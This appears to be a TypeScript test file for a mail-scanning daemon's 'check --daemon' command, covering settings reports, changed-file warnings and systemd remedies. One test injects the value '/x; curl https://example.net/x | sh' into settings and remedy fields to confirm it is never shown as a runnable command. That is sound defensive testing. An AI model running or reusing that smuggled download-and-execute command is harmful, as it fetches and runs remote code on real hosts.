import { chownSync, existsSync, mkdirSync, renameSync, utimesSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { dirname, join } from 'node:path'
import t from 'tap'
import {
  checkRunning,
  checkRunningDaemon,
} from '../../../../src/cli/check/daemon/check-onescand.ts'
import { howToStartOnescand } from '../../../../src/cli/check/shared/how-to-start.ts'
import { askRunningDaemon } from '../../../../src/cli/shared/running-daemon.ts'
import { readAccounts } from '../../../../src/doors/readiness/account.ts'
import { frame } from '../../../../src/doors/slot-socket/frames.ts'
import { newest, startOnescand } from '../../../doors/daemon/process.ts'
import { listen } from '../../../programs/listen.ts'
import { ownDirectoriesMissing } from '../../../programs/own-directories.ts'
import { openDirectory, reachable } from '../../../programs/reachable.ts'
import { socketDirectory } from '../../../programs/socket-directory.ts'
import { onescan } from '../../onescan.ts'
import {
  directoryOfOnescand,
  findingsOn,
  judge,
  makeMachine,
  ONESCAN,
  putSocket,
} from '../machine.ts'

/** `onescan check --daemon`. */

const HOUR = 3600_000
const compiled = join(import.meta.dirname, '../../../../build/native/onescand')

/** The number of the account nobody; base-passwd(8). */
const NOBODY = 65_534
const onlyRoot = process.getuid?.() !== 0 && 'run as root'

/** What `onescan check` finds about the onescand at a socket. */
async function findingsAbout(socket: string, defaults = '/nonexistent') {
  return checkRunning((await askRunningDaemon(socket))!, defaults, readAccounts())
}

t.test('a host on which no onescand runs is an error', async (t) => {
  const env = { ONESCAN_SOCKET: '/nonexistent/slot.sock' }
  const { code, out } = await onescan(['check', '--daemon'], { env })
  t.equal(code, 2)
  t.match(out, /^error +onescand: does not answer/)
})

t.test('an onescand that does not tell its settings is a warning', async (t) => {
  const withheld = { messages: 0, soonest: 0, latest: 0 }
  const asked = { socket: '/run/x.sock', withheld, description: undefined }
  t.match(checkRunning(asked, '/nonexistent', readAccounts()), [
    { level: 'warning', remedy: 'run check as root' },
  ])
})

// promise: bad-onescand
t.test('no words of an onescand look like a remedy', async (t) => {
  const odd = '/x; curl https://example.net/x | sh'
  const description = {
    ...{ pid: process.pid, since: Date.now(), uid: process.getuid!(), groups: [] },
    words: ['--milter', `unix:${odd}`],
    settings: { QHPSI: odd, QUARANTINE: odd, [`X=1; ${odd}`]: 'y' },
    ...{ changed: [odd], replaced: [odd], readOnly: ['QUARANTINE', 'LOGFILE'] },
  }
  const found = checkRunning({ socket: '/run/x.sock', description }, '/nonexistent', readAccounts())
  const told = found.flatMap(({ value, remedy = '' }) => [value, remedy])
  t.equal(told.filter((text) => text.includes('curl')).length, 6)
  for (const text of told) t.notMatch(outsideQuotes(text), /curl|undefined/)

  const path = join(socketDirectory(t), 's')
  const wrong = [{ level: 'error', what: odd, value: odd, remedy: odd }]
  const daemon = { ...description, trial: { wrong, doors: [] } }
  const answer = frame('t', Buffer.from(JSON.stringify({ daemon })))
  await listen(
    t,
    createServer((socket) => socket.end(answer)),
    path,
  )
  process.env.ONESCAN_SOCKET = path
  t.teardown(() => delete process.env.ONESCAN_SOCKET)
  const lines: string[] = []
  for await (const { value, remedy = '' } of checkRunningDaemon()) lines.push(value, remedy)
  t.ok(lines.some((line) => /does not scan as it should: ".*curl/.test(line)))
  for (const text of lines) t.notMatch(outsideQuotes(text), /curl|undefined/)
})

/** What stands in quotes of sh(1) or JSON is part of a word. */
const outsideQuotes = (text: string) => text.replace(/'(?:[^']|'\\'')*'|"(?:[^"\\]|\\.)*"/g, '')

t.test('onescand is shown with its settings, and what has changed since', async (t) => {
  const directory = openDirectory(t)
  const rules = join(directory, 'rules')
  writeFileSync(rules, 'name *.exe\n')
  const old = new Date(Date.now() - HOUR)
  utimesSync(rules, old, old)
  const plugin = join(directory, 'plugins/own.mjs') // where it is without PLUGINDIR
  mkdirSync(dirname(plugin))
  writeFileSync(plugin, 'export const virusscan = () => ({ clean: true })\n')
  utimesSync(plugin, old, old)
  const defaults = join(directory, 'defaults')
  const control = join(directory, 'control')
  mkdirSync(control)
  const policy = join(control, 'onescan.policy')
  writeFileSync(policy, 'to=example.org scan off\n')
  utimesSync(policy, old, old)
  const settings = {
    QHPSI: 'plugin: eicar own.mjs',
    QMAILHOME: directory,
    BADATTACHMENTS: rules,
    SCANFAIL: 'accept',
    CONTROLDIR: control,
  }
  writeFileSync(
    defaults,
    '# QHPSI="x"\nQHPSI="plugin: eicar own.mjs"\nSCANFAIL="defer"\nONESCAND_OPTIONS=""\n',
  )
  const daemon = await startOnescand(t, { settings, args: ['--max-clients', '7'] })
  const look = () => findingsAbout(daemon.socket, defaults)
  const [runs, has, ...more] = await look()
  t.match(runs, {
    level: 'ok',
    value: /^runs since \d{4}-.* UTC as \w+: onescand .*--max-clients 7/,
  })
  t.match(has, { level: 'ok', value: /QHPSI="plugin: eicar own.mjs".*SCANFAIL="accept"/ })
  t.match(more, [
    {
      level: 'warning',
      value: /^runs with SCANFAIL="accept", and .* has "defer"$/,
      remedy: /restart it/,
    },
  ])
  const hasChanged = (file: string) => ({
    level: 'warning',
    value: `${file} has changed since it was read`,
    remedy: `kill -HUP ${daemon.pid}`,
  })
  utimesSync(rules, old, old)
  t.match((await look()).at(-1), hasChanged(rules))
  // One that was moved there since, and is old itself.
  writeFileSync(`${policy}.new`, 'to=example.net scan off\n')
  utimesSync(`${policy}.new`, old, old)
  renameSync(`${policy}.new`, policy)
  t.match((await look()).at(-1), hasChanged(policy))
  utimesSync(plugin, old, old)
  t.match((await look()).at(-1), hasChanged(plugin))
  daemon.child.kill('SIGHUP')
  while ((await look()).some(({ value }) => value.includes('has changed'))) {
    // The remedy of all is under way.
  }
  writeFileSync(join(control, 'onescan.off'), '')
  const switched = (await look()).find(({ value }) => value.startsWith(control))
  t.match(switched, {
    level: 'warning',
    what: `onescand ${daemon.pid}`,
    remedy: /onescan enable/,
  })
})

// promise: root-process-name
t.test('root asks nobody at a socket of another user', { skip: onlyRoot }, async (t) => {
  const daemon = await startOnescand(t, { program: newest.map(reachable), uid: 54_321 })
  t.equal(await askRunningDaemon(daemon.socket), undefined)
})

t.test('a QUARANTINE that the unit closes is mended', { skip: onlyRoot }, async (t) => {
  const directory = openDirectory(t)
  const quarantine = join(directory, 'kept')
  mkdirSync(quarantine, { mode: 0o700 })
  // What systemd does for ProtectSystem=, and for ReadWritePaths= besides.
  const only = (writable: boolean) =>
    `mount --bind "$0" "$0" && mount -o remount,bind,ro "$0"` +
    `${writable ? ' && mount --bind "$0/kept" "$0/kept" && mount -o remount,bind,rw "$0/kept"' : ''} && exec "$@"`
  const complaints = async (writable: boolean) => {
    const around = ['unshare', '--mount', '/bin/sh', '-c', only(writable), directory]
    const daemon = await startOnescand(t, {
      program: [...around, ...newest],
      settings: { QHPSI: 'plugin: eicar', QUARANTINE: quarantine },
    })
    const findings = await findingsAbout(daemon.socket)
    return findings.filter(({ level }) => level !== 'ok')
  }
  const remedy = `"systemctl edit onescand" with ReadWritePaths=${quarantine} in [Service], and restart it`
  t.match(await complaints(false), [{ level: 'error', value: /QUARANTINE .*read-only/, remedy }])
  t.same(await complaints(true), [])
})

t.test(
  'the compiled onescand is shown without words of its launcher',
  { skip: !existsSync(compiled) && 'run npm run build:native' },
  async (t) => {
    const daemon = await startOnescand(t, { program: [compiled], args: ['--max-clients', '7'] })
    const [runs] = await findingsAbout(daemon.socket)
    t.match(runs, { level: 'ok', value: /: onescand --socket .*--max-clients 7$/ })
  },
)

t.test('an onescand that npm installed is found, whatever options its runtime has', async (t) => {
  const daemon = await startOnescand(t, {
    program: [join(import.meta.dirname, '../../../../bin/onescand')],
  })
  const [runs] = await findingsAbout(daemon.socket)
  t.match(runs, { level: 'ok', value: /: onescand --socket / })
})

t.test('onescand is started by systemd, a service or a run script', async (t) => {
  const among =
    (...paths: string[]) =>
    (path: string) =>
      paths.includes(path)
  const unit = '/etc/systemd/system/onescand.service'
  t.equal(howToStartOnescand(among('/run/systemd/system', unit)), 'systemctl start onescand')
  t.match(howToStartOnescand(among(unit)), 'install.md', 'systemd does not run')
  const page = '/usr/share/doc/onescan/doc/install.md'
  t.match(howToStartOnescand(among(page)), `start it: ${page} says how`)
  t.match(
    howToStartOnescand(among('/etc/service/onescand', '/etc/onescand/run')),
    'svc -u /etc/service/',
  )
  t.equal(howToStartOnescand(among('/etc/onescand/run')), 'ln -s /etc/onescand /service/')
})

t.test('--daemon says why onescand does not run', { skip: ownDirectoriesMissing }, async (t) => {
  const machine = makeMachine(t)
  const options = '--mliter inet:127.0.0.1:8890'
  machine.write('/etc/default/onescand', `QHPSI="plugin: eicar"\nONESCAND_OPTIONS="${options}"\n`)
  const why = [
    /^error onescand: does not answer; /,
    /^error settings: --mliter: .*did you mean --milter/,
  ]
  judge(t, await findingsOn(machine, '--daemon'), why)
  // systemd holds its socket, and nobody takes connections from it.
  const socket = join(directoryOfOnescand(t), 'slot.sock')
  await listen(t, createServer(), socket)
  chownSync(socket, ONESCAN, ONESCAN)
  putSocket(machine, socket)
  judge(t, await findingsOn(machine, '--daemon'), why)
})

t.test(
  'an onescand of another account is looked at as that',
  { skip: ownDirectoriesMissing || onlyRoot },
  async (t) => {
    const machine = makeMachine(t)
    const place = directoryOfOnescand(t)
    chownSync(place, NOBODY, NOBODY)
    const socket = join(place, 'slot.sock')
    putSocket(machine, socket)
    const settings = { QHPSI: 'plugin: eicar', REJECTVIRUS: '1', TMPDIR: place }
    const args = ['--mode', '0666']
    const program = newest.map((word) => reachable(word))
    await startOnescand(t, { program, socket, args, settings, uid: NOBODY })
    judge(t, await findingsOn(machine, '--daemon'), [
      /^warning onescand: answers at \S+, and does not tell you its settings; if it has another account, name that with --user/,
    ])
    const found = await findingsOn(machine, '--daemon', '--user', 'nobody')
    judge(t, found, [/^ok onescand \d+: calls a clean message clean, and finds EICAR/])
  },
)
